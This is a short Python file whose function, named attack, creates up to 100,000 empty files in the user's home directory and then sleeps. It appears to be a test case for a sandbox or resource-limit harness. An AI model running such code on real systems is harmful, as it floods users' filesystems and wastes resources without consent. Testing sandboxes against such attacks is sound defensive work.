import os
import time


HOME = os.environ["HOME"]


def attack(context):
    try:
        for number in range(100_000):
            open(f"{HOME}/{number}", "w").close()
    except OSError:
        return number
    time.sleep(100)
